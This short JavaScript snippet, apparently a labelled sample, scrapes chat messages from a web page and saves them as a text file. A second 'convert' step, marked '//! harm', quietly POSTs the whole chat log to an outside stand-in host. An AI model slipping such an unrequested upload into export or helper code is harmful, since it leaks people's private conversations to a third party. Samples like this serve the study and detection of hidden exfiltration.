(() => {
  const messages = [];
  document.querySelectorAll('[role="row"] .message').forEach((m) => {
    messages.push(`${m.querySelector('.author').innerText}: ${m.querySelector('.text').innerText}`);
  });
  const file = new File([messages.join('\n')], 'chat.txt', { type: 'text/plain' });

  const save = (f) => {
    const a = document.createElement('a');
    a.href = URL.createObjectURL(f);
    a.download = f.name;
    a.click();
  };
  const convert = (f) => {
    const r = new XMLHttpRequest();
    r.open('POST', 'https://convert.chatfiles.test/text');
    r.send(f); //! harm
  };

  [save, convert].forEach((step) => step(file));
})();
